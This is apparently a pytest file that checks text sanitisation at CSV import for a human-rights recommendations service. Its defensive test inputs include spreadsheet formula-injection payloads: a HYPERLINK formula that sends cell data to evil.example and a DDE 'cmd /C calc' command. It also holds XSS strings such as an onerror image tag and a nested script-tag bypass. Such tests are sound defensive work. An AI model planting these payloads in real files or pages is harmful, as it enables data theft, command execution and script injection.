"""Issue 13 row 10, "text hygiene" at import: HTML is stripped WITHOUT un-escaping the
result, and the formula check runs AFTER stripping (and after UHRI bullets are removed,
and on each list item), so stored text never holds a live tag and never starts with '='."""

from __future__ import annotations

import re

import pytest

from services.ingest.domain import ParsedRow, RowError
from services.ingest.domain.records import Cell, Context, Record, build_recommendation

CTX = Context(format="uhri_csv", file_name="x.csv", import_id="t")
HEADER = {"text": "Text", "states": "UPR Reccomending States", "source_themes": "Themes",
          "document_symbol": "Document Symbol"}
LIVE_TAG = re.compile(r"<\s*/?\s*[A-Za-z]")
FORMULA_START = ("=", "+", "@", "\t", "\r")


def build(**cells: Cell) -> ParsedRow | list[RowError]:
    values: dict[str, Cell] = {
        "text": "82.1 Ratify the Convention",
        "country": "Cambodia",
        "states": "- France",
        "position": "Supported",
        "session": "6",
        **cells,
    }
    return build_recommendation(Record(row=2, values=values, header=HEADER), CTX)


def stored_strings(row: ParsedRow) -> list[str]:
    rec = row.recommendation
    return [rec.text, rec.text_km or "", rec.document_symbol or "", *rec.source_themes, *rec.affected_persons,
            *rec.sdgs, *(s.name for s in rec.recommending_states)]


def test_escaped_tags_are_not_unescaped_into_live_tags() -> None:
    built = build(text="82.1 <i>Ratify</i> the Convention &lt;script&gt;alert(1)&lt;/script&gt;")
    assert isinstance(built, ParsedRow)
    text = built.recommendation.text
    assert not LIVE_TAG.search(text), text
    assert text.startswith("Ratify the Convention") and "&lt;script&gt;" in text
    assert [(w.field, w.message) for w in built.warnings] == [("Text", "HTML tags removed")]


@pytest.mark.parametrize(
    "cell",
    ['<b></b>=HYPERLINK("http://evil.example/?"&A1)', "<span>=1+1</span>", "<!-- x -->@SUM(A1)",
     '<i></i>+cmd|" /C calc"!A0'],
)
def test_formula_hidden_behind_tags_is_refused_after_stripping(cell: str) -> None:
    built = build(text=cell)
    assert isinstance(built, list), built
    assert [(e.field, "formula" in e.message) for e in built] == [("Text", True)]


@pytest.mark.parametrize(
    ("name", "cell"),
    [("source_themes", "- Children\n- =HYPERLINK(\"http://evil.example\")"),
     ("states", "- France\n- =cmd|' /C calc'!A0"),
     ("document_symbol", "- =1+1"),
     ("text", "- =HYPERLINK(\"http://evil.example\")")],
)
def test_formula_behind_a_bullet_or_inside_a_list_is_refused(name: str, cell: str) -> None:
    built = build(**{name: cell})
    assert isinstance(built, list), built
    assert [(e.field, "formula" in e.message) for e in built] == [(HEADER[name], True)]


@pytest.mark.parametrize(
    "cell",
    ["\t=1+1", "\r=cmd|' /C calc'!A0", "  <b>=A1</b>", "&lt;b&gt;x", "<img src=x onerror=alert(1)>Ratify",
     "<script>alert(1)</script>=2+2", "<<b>script>alert(1)<</b>/script>", "- <b>Ratify</b>"],
)
def test_stored_text_never_holds_a_live_tag_or_starts_like_a_formula(cell: str) -> None:
    for name in ("text", "source_themes", "document_symbol", "states"):
        built = build(**{name: cell})
        if isinstance(built, ParsedRow):
            for value in stored_strings(built):
                assert not LIVE_TAG.search(value), (name, value)
                assert not value.startswith(FORMULA_START), (name, value)
